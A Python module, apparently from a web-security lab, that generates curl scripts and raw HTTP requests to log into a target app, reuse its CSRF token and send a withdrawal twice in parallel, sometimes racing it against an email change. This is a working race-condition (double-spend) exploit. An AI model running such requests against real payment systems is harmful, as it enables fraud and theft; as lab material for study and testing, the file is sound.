"""A page's request, to be copied: for curl, and byte by byte for a proxy tool."""

from dataclasses import dataclass
from shlex import quote
from urllib.parse import urlencode

from shared_db.accounts import public_accounts
from shared_db.catalogue import Strategy
from shared_db.rules import new_key

_LOGIN = """\
site={site}
value() {{
    sed -n "s/.*name=\\"$1\\"[^>]*value=\\"\\([^\\"]*\\)\\".*/\\1/p" page.html | head -n 1
}}
curl --silent --cookie-jar jar --output page.html $site/login
curl --silent --cookie jar --cookie-jar jar --output page.html \\
    --data-urlencode {username} --data-urlencode {password} \\
    --data-urlencode "{field}=$(value {field})" $site/login
curl --silent --cookie jar --cookie-jar jar --output page.html $site{path}
"""
_SEND = """\
curl --silent --parallel --parallel-immediate --cookie jar \\
    --output /dev/null --write-out '%{{http_code}} %{{redirect_url}}\\n' \\
    --data amount={amount} --data-urlencode "{field}=$(value {field})" \\
    {more}"$site{path}?request={copies}"\
"""
_BESIDE = """ --next \\
    --silent --cookie jar --output /dev/null --write-out '%{{http_code}} %{{redirect_url}}\\n' \\
    --data-urlencode {email} --data-urlencode "{field}=$(value {field})" \\
    "$site/email"\
"""
_RAW = """\
POST {path} HTTP/1.1
Host: {host}
Cookie: {cookies}
Content-Type: application/x-www-form-urlencoded
Content-Length: {length}

{body}"""


@dataclass(frozen=True)
class Door:
    """How a stack is entered.

    Attributes:
        host: as the browser calls it, with the port.
        field: name of the hidden field with the CSRF token.
        token: one that is good in the session of whoever asks.
        cookies: names of those that a request needs.
    """

    host: str
    field: str
    token: str
    cookies: tuple[str, ...]


def curl(strategy: Strategy, door: Door, username: str, amount: int) -> str:
    """Return commands for a shell: log in, open the page, send its form twice at once.

    Of a strategy that races with another page, that page's form is the second request. A password
    is told only where it is public.

    Args:
        strategy: whose page it is.
        door: how the stack is entered.
        username: who asks.
        amount: what each withdrawal asks for.
    """
    public = {account.username: account.password for account in public_accounts()}
    parts = {
        "site": f"http://{door.host}",
        "username": quote(f"username={username}"),
        "password": quote(f"password={public.get(username, 'YOUR-PASSWORD')}"),
        "email": quote(f"email={username}@elsewhere.example"),
        "field": door.field,
        "path": strategy.path,
        "amount": amount,
        "more": '--data-urlencode "key=$(value key)" ' if strategy.keyed else "",
        "copies": "1" if strategy.beside else "[1-2]",
    }
    beside = _BESIDE.format(**parts) if strategy.beside else ""
    return _LOGIN.format(**parts) + _SEND.format(**parts) + beside


def raw(strategy: Strategy, door: Door, amount: int) -> str:
    """Return the request of a withdrawal, complete but for the cookies of the session.

    Its lines end in LF here, and in CR LF on the wire.
    """
    fields = {"amount": str(amount), door.field: door.token}
    body = urlencode(fields | ({"key": new_key()} if strategy.keyed else {}))
    return _RAW.format(
        path=strategy.path,
        host=door.host,
        cookies="; ".join(f"{name}=YOURS" for name in door.cookies),
        length=len(body),
        body=body,
    )
